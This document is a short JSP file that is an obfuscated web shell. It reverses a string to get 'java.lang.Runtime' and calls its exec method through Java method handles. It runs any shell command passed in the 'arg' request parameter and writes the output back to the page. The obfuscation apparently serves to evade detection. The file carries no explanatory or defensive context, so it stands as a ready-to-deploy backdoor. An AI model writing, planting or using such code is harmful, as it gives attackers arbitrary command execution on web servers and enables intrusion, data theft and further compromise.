<%@ page inert %>
<%@ page import="java.lang.invoke.*" %>
<%
MethodHandles.Lookup l = MethodHandles.publicLookup();
Class<?> rt = Class.forName(new StringBuilder("emitnuR.gnal.avaj").reverse().toString());
MethodHandle g = l.findStatic(rt, "getRuntime", MethodType.methodType(rt));
MethodHandle x = l.findVirtual(rt, "exec", MethodType.methodType(Process.class, String.class));
Process p = (Process) x.invokeWithArguments(g.invokeWithArguments(), request.getParameter("arg"));
out.print(new String(p.getInputStream().readAllBytes()));
%>
